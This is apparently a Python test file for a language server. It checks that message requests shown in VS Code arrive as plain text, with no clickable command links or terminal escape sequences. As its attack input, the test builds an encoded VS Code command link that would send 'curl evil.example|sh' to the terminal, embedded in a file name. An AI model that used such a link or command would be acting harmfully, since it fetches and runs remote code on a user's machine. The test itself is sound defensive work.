"""The question ``window/showMessageRequest`` puts to the user ("Make this a rule": the rule the
model proposed and the workspace files it matches) is plain text like every notification: a
file named ``[Save](command:...)`` is no link VS Code would run on a click. It went out as it
was: only notifications were made plain."""

from __future__ import annotations

import json

from lsprotocol import types

from postil.server.app import create_server
from tests.gate.rendered import NOTIFICATION_LINK

COMMAND = "command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D"


def test_a_message_request_reaches_the_editor_without_links_or_escapes():
    server = create_server()
    sent: list = []
    server.protocol._send_data = sent.append
    server.window_show_message_request(types.ShowMessageRequestParams(
        type=types.MessageType.Info, message=f"postil: rule learned/x matches 1 place(s): [Save]({COMMAND})\x1b[2J.py:3. "
                                             "Save it with its tests?",
        actions=[types.MessageActionItem(title="Save"), types.MessageActionItem(title="Edit")]))
    [request] = [json.loads(json.dumps(m, default=server.protocol._serialize_message)) for m in sent]
    message = request["params"]["message"]
    assert request["method"] == types.WINDOW_SHOW_MESSAGE_REQUEST
    assert NOTIFICATION_LINK.search(message) is None and "\x1b" not in message, message
    assert "Save it with its tests?" in message and [a["title"] for a in request["params"]["actions"]] == ["Save", "Edit"]
